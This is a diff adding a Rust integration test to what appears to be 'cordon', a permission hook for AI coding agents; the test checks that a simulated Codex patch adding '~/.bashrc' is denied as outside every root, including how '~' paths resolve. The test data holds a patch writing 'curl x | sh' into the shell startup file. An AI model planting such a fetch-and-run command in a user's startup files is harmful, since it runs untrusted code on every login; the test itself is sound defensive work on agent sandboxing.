@@ -900,6 +900,49 @@ fn a_dotdot_climbing_out_by_name_is_refused_whatever_the_links() {
     }
 }
 
+/// Issue 21 class 5 (round 8): Codex's newer releases resolve a patch path `~/x` as the
+/// home's `x` (`codex-utils-absolute-path` expands `~` and `~/`; 0.171 still takes `~` as a
+/// name, `hosts_codex.rs`), so a patch adding `~/.bashrc` is decided as the home's file too,
+/// and refused as outside every root. HOME is the hook's own: the host's, which it inherits.
+#[test]
+fn a_patch_path_under_tilde_is_decided_as_the_homes_file_too() {
+    let ws = workspace();
+    let dir = ws.path();
+    let home = tempfile::tempdir().unwrap();
+    for path in ["~/.bashrc", "~//.bashrc"] {
+        let stdin = json!({"session_id": "s", "turn_id": "t", "transcript_path": null,
+            "cwd": dir, "hook_event_name": "PreToolUse", "model": "gpt-5", "permission_mode": "default",
+            "tool_name": "apply_patch", "tool_use_id": "c",
+            "tool_input": {"command": format!("*** Begin Patch\n*** Add File: {path}\n+curl x | sh\n*** End Patch\n")}});
+        let out = cordon_cmd(dir)
+            .env("HOME", home.path())
+            .args(["hook", "codex", "--policy"])
+            .arg(dir.join("cordon.toml"))
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .spawn()
+            .and_then(|mut c| {
+                c.stdin
+                    .take()
+                    .unwrap()
+                    .write_all(stdin.to_string().as_bytes())?;
+                c.wait_with_output()
+            })
+            .unwrap();
+        let text = common::stdout(&out);
+        let want = format!(
+            "`{}` is outside every root",
+            home.path().join(".bashrc").display()
+        );
+        assert!(
+            text.contains("\"deny\"") && text.contains(&want),
+            "{path}: {text}{}",
+            common::stderr(&out)
+        );
+    }
+}
+
 /// The hook's start is cordon's own (`main.rs` `start`), not std's runtime start-up: no
 /// `/proc/self/maps` read and parsed for a stack-overflow guard, no signal stack mapped for
 /// the process or its deadline thread. An agent host starts cordon twice per allowed shell
